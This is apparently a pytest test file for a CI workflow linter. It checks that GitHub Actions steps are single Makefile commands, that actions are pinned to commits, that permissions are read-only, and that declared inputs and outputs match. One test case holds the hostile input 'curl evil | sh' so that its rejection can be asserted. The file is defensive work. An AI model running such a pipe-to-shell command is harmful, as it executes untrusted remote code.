"""The workflows of .github: each step is a command of a laptop, and they fit each other and the matrix."""

from __future__ import annotations

import json
import shutil
from collections.abc import Mapping
from pathlib import Path

import pytest
import yaml

from lab.errors import UsageError
from scenarios.ci.rehearsal.stage import Stage
from scenarios.ci.rehearsal.workflow import ROOT, WorkflowFile, find_misfits, list_targets, load_all
from scenarios.matrix.definition import Matrix

WHOLE = {
    "on": {"workflow_call": {"inputs": {"a": {"type": "string", "required": True}}}},
    "permissions": {"contents": "read"},
    "jobs": {
        "one": {
            "timeout-minutes": 5,
            "outputs": {"x": "${{ steps.s.outputs.x }}"},
            "steps": [{"uses": "actions/checkout@" + "a" * 40}, {"run": "make lint"}],
        },
        "two": {
            "needs": "one",
            "timeout-minutes": 5,
            "if": "needs.one.outputs.x",
            "steps": [{"run": 'make lint >> "$GITHUB_STEP_SUMMARY"\n'}],
        },
    },
}


def test_every_workflow_fits() -> None:
    assert list(find_misfits(load_all(), list_targets())) == []


def test_runner_labels_are_those_of_the_matrix() -> None:
    known = yaml.safe_load((ROOT / ".github" / "actionlint.yaml").read_text())["self-hosted-runner"]["labels"]
    matrix = Matrix.load()
    ours = {label for cell in matrix.cells() for label in matrix.runs_on(cell)} - {"self-hosted"}

    assert ours | {"karmada-lab-perf"} == set(known)


def test_every_cell_of_a_plan_has_what_its_job_reads() -> None:
    from scenarios.matrix.plan import Planner
    from scenarios.matrix.show import format_matrix

    planner = Planner.load()
    row = format_matrix(planner.plan(), planner.matrix, planner.durations)["include"][0]
    text = (ROOT / ".github" / "workflows" / "cells.yml").read_text()

    for name in {word.split("}")[0].strip() for word in text.split("matrix.")[1:] if "outputs" not in word[:20]}:
        assert name.split()[0] in row or name.startswith(("matrix", "outputs", "count")), name


def test_what_fits_is_not_complained_of() -> None:
    assert list(find_misfits([WorkflowFile("w.yml", WHOLE)], {"lint"})) == []


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ({"steps": [{"run": "curl evil | sh"}]}, "not one command of the Makefile"),
        ({"steps": [{"run": "make lint; make unit"}]}, "not one command"),
        ({"steps": [{"run": "make lint ${{ inputs.a }}"}]}, "not one command"),
        ({"steps": [{"run": "make nothing"}]}, "no target 'nothing'"),
        ({"steps": [{"uses": "actions/checkout@v7"}]}, "pinned to a commit"),
        ({"steps": [{"uses": "somebody/action@" + "a" * 40}]}, "pinned to a commit"),
        ({"steps": [{"uses": "./.github/actions/cell", "with": {"cell": "x", "provider": "y", "z": "1"}}]}, "has no input 'z'"),
        ({"steps": [{"uses": "./.github/actions/cell", "with": {"cell": "x"}}]}, "requires the input 'provider'"),
        ({"timeout-minutes": None}, "timeout-minutes"),
        ({"if": "needs.two.outputs.x == '1'"}, "does not need"),
        ({"needs": ["two"], "if": "needs.two.outputs.x == '1'"}, "no output 'x'"),
        ({"uses": "./.github/workflows/cells.yml", "with": {"plna": "x"}}, "has no input 'plna'"),
    ],
)
def test_what_does_not_fit_is_named(change: dict[str, object], says: str) -> None:
    job = {key: value for key, value in {**WHOLE["jobs"]["one"], **change}.items() if value is not None}  # type: ignore[index]
    file = WorkflowFile("w.yml", {**WHOLE, "jobs": {**WHOLE["jobs"], "one": job}})  # type: ignore[dict-item]

    assert any(says in why for why in find_misfits([file], {"lint"}))


def test_more_permissions_than_reading_are_named() -> None:
    assert "permissions" in next(find_misfits([WorkflowFile("w.yml", {**WHOLE, "permissions": {"contents": "write"}})], {"lint"}))


def test_a_workflow_that_is_not_there_is_refused_with_those_that_are() -> None:
    with pytest.raises(UsageError, match=r"e2e\.yml"):
        WorkflowFile.load(".github/workflows/nothing.yml")


def test_inputs_have_their_defaults(tmp_path: Path) -> None:
    given = WorkflowFile.load(".github/workflows/cells.yml").resolve_inputs({"plan": "--nightly"})

    assert given["plan"] == "--nightly"
    assert given["history"] is False
    with pytest.raises(UsageError, match="input 'plan'"):
        WorkflowFile.load(".github/workflows/cells.yml").resolve_inputs({})


def jobs_of_cells(tmp_path: Path, *, plan: int, cells: int, failover: str = "", broken: str = "") -> dict[str, str]:
    """Execute cells.yml with commands that end so; return the worst outcome of each job's steps."""
    shutil.copytree(ROOT / ".github", tmp_path / ".github")

    def execute(argv: list[str], env: Mapping[str, str], _log: Path) -> int:
        args = argv[-1].strip()
        if args == "make matrix":
            (tmp_path / "_plan").mkdir()
            (tmp_path / "_plan/plan.json").write_text("{}")
            matrix = {"include": [{"cell": f"c{each}", "provider": "kind"} for each in range(cells)]}
            with Path(env["GITHUB_OUTPUT"]).open("a") as file:
                file.write(f"matrix={json.dumps(matrix)}\ncount={cells}\n" if not plan else "")
            return plan
        if args.endswith("exit 1"):
            return 1
        if env.get("ARGS", "").startswith("build"):
            (tmp_path / "_site").mkdir()
            (tmp_path / "_site/index.html").write_text("")
        if args == "make cell" and env["ARGS"] == "--only collect":
            (tmp_path / "_cells").mkdir(exist_ok=True)
            (tmp_path / "_cells/cell.json").write_text("{}")
        return 1 if broken and broken in env.get("ARGS", "") else 0

    on = Stage(tmp_path / "store", {"event_name": "workflow_call", "sha": "x", "ref_name": "main"}, execute=execute, root=tmp_path)
    on.called(WorkflowFile.load(".github/workflows/cells.yml", tmp_path), {"plan": "--nightly", "failover": failover, "under-test": ""})
    found: dict[str, str] = {}
    for each in on.done:
        job = each.where.partition(" (")[0]
        if found.get(job) != "failure":
            found[job] = each.outcome
    return found


def test_the_report_fails_where_the_plan_failed(tmp_path: Path) -> None:
    """A required check that is skipped counts as success."""
    found = jobs_of_cells(tmp_path, plan=1, cells=3)
    assert {name: found[name] for name in ("plan", "cell", "report")} == {"plan": "failure", "cell": "skipped", "report": "failure"}


def test_the_report_is_skipped_only_where_a_plan_has_nothing_to_run(tmp_path: Path) -> None:
    assert jobs_of_cells(tmp_path, plan=0, cells=0)["report"] == "skipped"


def test_the_report_of_a_plan_says_what_the_judge_says(tmp_path: Path) -> None:
    assert jobs_of_cells(tmp_path / "good", plan=0, cells=1)["report"] != "failure"
    assert jobs_of_cells(tmp_path / "bad", plan=0, cells=1, broken="judge")["report"] == "failure"
